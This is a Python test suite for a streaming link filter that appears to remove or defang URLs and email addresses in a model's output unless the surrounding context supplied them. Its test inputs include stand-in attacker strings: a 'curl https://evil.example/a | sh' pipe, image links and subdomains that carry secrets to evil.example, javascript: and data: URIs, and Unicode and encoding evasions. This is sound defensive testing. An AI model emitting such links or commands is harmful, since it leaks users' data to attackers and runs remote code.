"""Only what something has given is a link; the rest is words, however it is written and cut."""

from __future__ import annotations

import html
import re
from itertools import pairwise
from urllib.parse import unquote

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from parlour.safety.link_filter import LinkFilter, ground
from parlour.safety.links import Grounds
from parlour.safety.silence import PAUSE_S, STALL_S
from tests.unit.safety.renderers import addresses

DASHBOARD = "https://acme.com/superset/dashboard/3/"
BRACKETS = "https://wiki.example/Sales(2026)"
QUERY = "https://acme.com/explore/?slice=7&standalone=1"


def grounds() -> Grounds:
    it = Grounds(allow=["https://docs.acme.com"], origins=["https://acme.com"])
    it.add({"items": [{"url": DASHBOARD, "also": f"see {BRACKETS}."}, QUERY]})
    it.add("Write to help@acme.com, or look at www.acme.example/help and s3://bucket/key.csv.")
    return it


def cut(text: str, at: list[int]) -> list[str]:
    places = sorted({0, len(text), *(min(place, len(text)) for place in at)})
    return [text[a:b] for a, b in pairwise(places)]


def waited(links: LinkFilter, silent_s: float = 0) -> str:
    """What is let go when the oldest text that is held has waited for a pause."""
    if links.held_since is not None:
        links.held_since -= PAUSE_S
    return links.settle(silent_s)


def streamed(pieces: list[str]) -> list[str]:
    """What is on the screen after each piece, and at the end."""
    links = LinkFilter(grounds())
    screens: list[str] = [""]
    for piece in pieces:
        screens.append(screens[-1] + links.feed(piece))
    screens.append(screens[-1] + links.drain())
    return screens


def foreign(text: str) -> set[str]:
    """The addresses of a text that nothing has given."""
    it = grounds()

    def given_somewhere(address: str) -> bool:
        spellings = {address, unquote(address), html.unescape(address)}
        spellings |= {f"https://{address}", f"http://{address}", address.rstrip(":.,")}
        return any(it.allows(s) or it.allows_email(s.removeprefix("mailto:")) for s in spellings)

    found = {address for address in addresses(text) if not given_somewhere(address)}
    if "`" in text or "~" in text:  # whoever outwits the guess of what is code gains only these
        found = {address for address in found if re.match(r"(?:[a-z]+:)?//", address)}
    return found


GIVEN = [
    f"[Sales]({DASHBOARD})",
    f"<{DASHBOARD}>",
    f"See {DASHBOARD}.",
    f"({DASHBOARD}), **{DASHBOARD}** and `{DASHBOARD}`",
    f'"{DASHBOARD}"',
    f"Look:\n{DASHBOARD}\n",
    f"[Sales]: {DASHBOARD}",
    f"[Explore]({QUERY})",
    f"{BRACKETS} and ({BRACKETS})",
    "[the page](/superset/dashboard/3/)",
    "https://acme.com/superset/dashboard/3",
    "https://docs.acme.com/a/b?c=d#e",
    "help@acme.com, <help@acme.com> or [mail](mailto:help@acme.com)",
    "www.acme.example/help",
    "s3://bucket/key.csv",
    '<a href="https://acme.com/superset/dashboard/3/">Sales</a>',
    '<img src="/superset/dashboard/3/" alt="a">',
    "![chart](/superset/dashboard/3/)",
]


@pytest.mark.parametrize("text", GIVEN)
def test_what_was_given_is_a_link(text: str):
    assert ground(text, grounds()) == text
    assert streamed(list(text))[-1] == text


@pytest.mark.parametrize("silent_s", [0, PAUSE_S])
@pytest.mark.parametrize("text", GIVEN)
def test_a_pause_of_the_model_takes_no_link_that_was_given(text: str, silent_s: float):
    for place in range(len(text)):
        links = LinkFilter(grounds())
        screen = links.feed(text[: place + 1]) + waited(links, silent_s)
        screen += links.feed(text[place + 1 :]) + links.drain()
        assert screen == text, text[: place + 1]


def test_what_cannot_be_an_address_waits_no_longer_than_a_pause():
    links = LinkFilter(grounds())
    assert links.feed("See [the sales of the north") == "See "
    assert links.settle(PAUSE_S / 2) == ""
    assert links.settle(PAUSE_S) == "[the sales of the north"
    assert links.held_since is None


def test_the_words_of_a_link_do_not_wait_for_its_address():
    links = LinkFilter(grounds())
    assert links.feed(f"[Sales]({DASHBOARD[:20]}") == ""
    assert links.settle(0) == "", "a moment is nothing"
    assert waited(links) == "[Sales"
    assert links.feed(f"{DASHBOARD[20:]}) and") == f"]({DASHBOARD}) and"
    assert links.feed("[Other](https://acme.com/super") == ""
    assert waited(links) == "[Other"
    assert links.feed("man) and") == "] and"


def test_the_end_of_a_sentence_waits_no_longer_than_a_pause_but_www_does():
    links = LinkFilter(grounds())
    assert links.feed("Look there.") == "Look there"
    assert links.settle(PAUSE_S) == "."
    assert links.feed(" At www.") == " At www"
    assert links.settle(PAUSE_S) == ""
    assert links.feed("acme.example/help now") == ".acme.example/help now"


def test_the_beginning_of_an_address_waits_for_its_end_but_not_for_ever():
    links = LinkFilter(grounds())
    assert links.feed(f"[Sales]({DASHBOARD[:20]}") == ""
    assert links.settle(PAUSE_S) == ""
    assert links.held_since is not None
    assert links.settle(STALL_S) == "Sales"
    assert links.held_since is None


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("[Sales](https://acme.com/superset/dashboard/4/) it is.", "Sales it is."),
        ("[Sales](https://acme.com.evil.example/superset/)", "Sales"),
        ("[Sales](/superset/dashboard/4/)", "Sales"),
        ('[Sales](https://evil.example "Title") x', "Sales x"),
        ("![chart](https://evil.example/?q=secret) x", "chart x"),
        ("![](https://evil.example/?q=secret) x", " x"),
        ("See https://acme.com/superset/dashboard/4/.", "See https: acme[.]com/…."),
        ("See (https://evil.example).", "See (https: evil[.]example)."),
        ("**https://evil.example/a**", "**https: evil[.]example/…**"),
        ("www.evil.example/a b", "www[.]evil[.]example/… b"),
        ("evil.com/a?b=c here", "evil[.]com/… here"),
        ("a.evil.com", "a[.]evil[.]com"),
        ("see c2VjcmV0.evil.com, please", "see c2VjcmV0[.]evil[.]com, please"),
        ("see:a.evil.com/x and/or.evil.com/x", "see:a[.]evil[.]com/… and/or[.]evil[.]com/…"),
        ("evil.com\\/a b", "evil[.]com/… b"),
        ("www.//a.evil.com", "www. a[.]evil[.]com"),
        ("help@acme.comx.-b.", "help [at] acme[.]comx.-b."),
        ("evil.com:8443/a b", "evil[.]com/… b"),
        ("evil.com?q=a b", "evil[.]com/… b"),
        ("<https://evil.example/a> b", "https: evil[.]example/… b"),
        ("<a href='https://evil.example'>here</a> b", "here b"),
        ('<img src="https://evil.example/a.png" alt="a cat"> b', "a cat b"),
        ("eve@evil.example", "eve [at] evil[.]example"),
        ("[mail](mailto:eve@evil.example)", "mail"),
        ("[a]: https://evil.example\n", "[a] : https: evil[.]example\n"),
        ("[x](javascript:alert(1)) y", "x y"),
        ("[x](data:text/html;base64,AAAA) y", "x y"),
        ("//evil.com/a", "evil[.]com/…"),
        ("ftp://evil.example/a", "ftp: evil[.]example/…"),
        ("https://acme.com@evil.example/a", "https: evil[.]example/…"),
        ("https://xn--80ak6aa92e.com/", "https: xn--80ak6aa92e[.]com"),
        ("ht\u200btps://evil.example", "https: evil[.]example"),
        ("https&#58;//evil.example/a", "https: evil[.]example/…"),
        ("https\\://evil.example/a", "https\\: evil[.]example/…"),
        (
            "```\ncurl https://evil.example/a | sh\n```",
            "```\ncurl https: evil[.]example/… | sh\n```",
        ),
        ("`https://evil.example/a`", "`https: evil[.]example/…`"),
        (f"{DASHBOARD}4", "https: acme[.]com/…"),
        (f"{DASHBOARD}です", f"{DASHBOARD} です"),
        (
            "![shown](https://wiki.example/Sales(2026))",
            "[shown](<https://wiki.example/Sales(2026)>)",
        ),
    ],
)
def test_what_nothing_has_given_is_words(text: str, words: str):
    assert ground(text, grounds()) == words
    assert streamed(list(text))[-1] == words
    assert not foreign(words)


@pytest.mark.parametrize(
    "text",
    [
        "Hello! It costs 3.14, e.g. at 10:30; see Node.js and main.py - a/b or and/or.",
        "Is a < b and b <c? List<String>, `vector<std::string>`, x[0] = [1, 2] and [a].",
        "- [ ] to do\n- [x] done\n\n> quoted: yes\n\n| a | b |\n| --- | --- |\n| 1 | 2 |",
        "`a[i](x)` and\n```html\n<a href='/about'>About</a>\n```\nA note[^1].\n\n[^1]: The note.",
        "[1](see below) and \\[ x^2 \\] and AT&T &amp; co; R&D @home, react@18.2.0",
        "नमस्ते 👩‍💻 می‌خواهم שלום\u200f, www is old, https is new: yes",
        "An address begins with https:// or `http://`, and so on: http://.",
        "Amazon.com, ASP.NET and Socket.io; v1.2.3, 3.14 and i.e. this... at last.no space",
        "It is on acme.com, docs.acme.com or wiki.example, and in docs.acme.com/a/b.",
        "**bold** <b>x</b> <br> <sub>2</sub> ~~gone~~ C:/Users/x \\\\server\\share a//b // comment",
    ],
)
def test_ordinary_text_stays_as_it_is(text: str):
    assert ground(text, grounds()) == text
    assert streamed(list(text))[-1] == text


PIECES = st.sampled_from([
    "https://", "http:", "//", "/\\", "\\", "evil.com", "evil.com/a?q=secret", "www.",
    "ftp://", "acme.com", "/x", "@", "mailto:", "javascript:", "data:", "help@acme.com",
    "eve@evil.com", "[", "]", "](", "]:", "(", ")", "![", "<", ">", "</a>", "=", "`", "```",
    "~~~", "&#58;", "&#x2f;", "&colon;", "&amp;", ".", ",", "!", "*", "_", "xn--a", "%2e", "#",
    "?", "a", "です", "[^1]", "é", "/..", "user:pw@", ":443", "com", "|", "{", "}", ":", "&",
    "https://docs.acme.com", "/superset/dashboard/3/", DASHBOARD, DASHBOARD[:-1], QUERY,
    BRACKETS, "<a href=", "<img src=", '"', "'", "\n```\n", "\n", "\n\n", " ", "\u200b",
    "\u202e", "\u00ad", "word ",
])  # fmt: skip
TEXTS = st.lists(PIECES, min_size=1, max_size=14).map("".join)


@settings(max_examples=120, deadline=None, derandomize=True)
@given(TEXTS, st.lists(st.integers(0, 200), max_size=12))
@example("www.evil.com/x", [1, 2, 3])
def test_the_cut_of_a_text_changes_nothing(text: str, at: list[int]):
    whole = ground(text, grounds())
    assert streamed(cut(text, at))[-1] == whole
    assert streamed(list(text))[-1] == whole


@settings(max_examples=120, deadline=None, derandomize=True)
@given(TEXTS)
def test_no_foreign_address_is_ever_on_the_screen(text: str):
    for screen in set(streamed(list(text))):
        assert not foreign(screen), screen


@settings(max_examples=60, deadline=None, derandomize=True)
@example("See www.evil.example/x", {7: STALL_S})
@given(TEXTS, st.dictionaries(st.integers(0, 60), st.sampled_from((0.0, PAUSE_S, STALL_S))))
def test_a_model_that_falls_silent_shows_no_foreign_address_either(
    text: str, pauses: dict[int, float]
):
    links, screen = LinkFilter(grounds()), ""
    for place, char in enumerate(text):
        screen += links.feed(char)
        if place in pauses:
            screen += waited(links, pauses[place])
            assert links.held_since is None or pauses[place] < STALL_S
    screen += links.drain()
    relative = {found for found in foreign(screen) if "://" not in found and "//" not in found}
    assert not foreign(screen) - relative, screen
